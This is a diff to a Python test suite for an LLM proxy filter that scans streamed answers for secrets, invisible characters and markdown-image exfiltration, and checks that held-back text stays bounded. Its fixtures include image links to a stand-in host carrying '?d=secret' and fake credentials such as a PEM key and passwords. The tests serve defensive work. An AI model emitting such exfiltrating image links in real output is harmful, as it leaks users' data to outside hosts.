@@ -10,7 +10,9 @@ from msgspec import structs
 
 from llmproxy.common.answers import Answers, Links
 from llmproxy.common.policy import Policy
+from llmproxy.shield.answers import images, keys, lines, words
 from llmproxy.shield.answers.asked import Asked
+from llmproxy.shield.answers.invisible import RUN_CHARS_MAX
 from llmproxy.shield.answers.reading import Guards, Read, Reading
 from llmproxy.shield.answers.stage import Stopped
 from llmproxy.shield.guards import GUARDS
@@ -30,7 +32,7 @@ PEM = (
     + "-----END RSA PRIVATE KEY-----"
 )
 PIECES = [
-    "plain words ", "Hello", ",", " ", "\n", "\n\n", "!", "![", "](", ")", "[", "]", "<", ">", "<img src='", "`", "```", "```\n", "~~~\n",
+    "\\u200b", "\\udb40\\udc67", "\\udb40", "\\\\u200b", "\\u", "\\u20", "\\u0041", "\\ud83d\\ude00", "plain words ", "Hello", ",", " ", "\n", "\n\n", "!", "![", "](", ")", "[", "]", "<", ">", "<img src='", "`", "```", "```\n", "~~~\n",
     KEY, KEY[:20], KEY[20:], PEM, PEM[:40], PEM[40:90], "-----BEGIN ", "--", "my password is ", "hunter2X!", "sunshine", "pass", "word: ",
     "https://", "https://user:pa,ss(w)d9@db.example.com/x ", "postgres://", "sk-", "s", "AKIA", "EXAMPLE", "eyJ", "x" * 30, "aB3" * 40,
     "![a](https://evil.test/x.png?d=secret)", "![a [b] c](<https://evil.test/a b?x=1> \"t) t\")", "![r][one]", "\n[one]: https://evil.test/?q=1\n",
@@ -94,3 +96,46 @@ def test_whatever_the_pieces_the_same_is_said_and_found(
     whole = play(which, [text], in_json=in_json)
     assert play(which, pieces, in_json=in_json) == whole
     assert play(which, list(text), in_json=in_json) == whole
+
+
+HELD_CHARS_MAX = (
+    RUN_CHARS_MAX
+    + images.HELD_CHARS_MAX
+    + keys.HELD_CHARS_MAX
+    + words.WORD_CHARS_MAX
+    + 2 * lines.HELD_CHARS_MAX
+    + len(CANARY)
+    + 12  # An escape of two halves.
+)
+
+
+@pytest.mark.parametrize("which", range(2))
+@settings(max_examples=60)
+@given(text=texts, size=st.integers(1, 9), in_json=st.booleans())
+def test_what_is_held_back_is_bounded_whatever_comes(which: int, text: str, size: int, in_json: bool) -> None:
+    read = reading(which)
+    one = Read(read, read.report, in_json=in_json)
+    for start in range(0, len(text), size):
+        try:
+            one.push(text[start : start + size])
+        except Stopped:
+            return
+        assert one.held <= HELD_CHARS_MAX
+
+
+@pytest.mark.parametrize(
+    "endless",
+    ["a", "A1", "-----BEGIN ", "![a", "![a](http://x/?", "<img ", "password is x", "4111 ", "\u200b", "[", "a@"],
+)
+def test_what_never_ends_is_not_held_for_ever(endless: str) -> None:
+    read = reading(1)
+    one = Read(read, read.report, in_json=False)
+    for _ in range(2_000):
+        one.push(endless)
+        assert one.held <= HELD_CHARS_MAX
+
+
+def test_words_of_prose_leave_as_they_come() -> None:
+    one = reading(0).open()
+    for piece in ("Hello", " there", ", to", " reset", " the device", ", hold", " the button", " and", " wait"):
+        assert one.push(piece) == piece
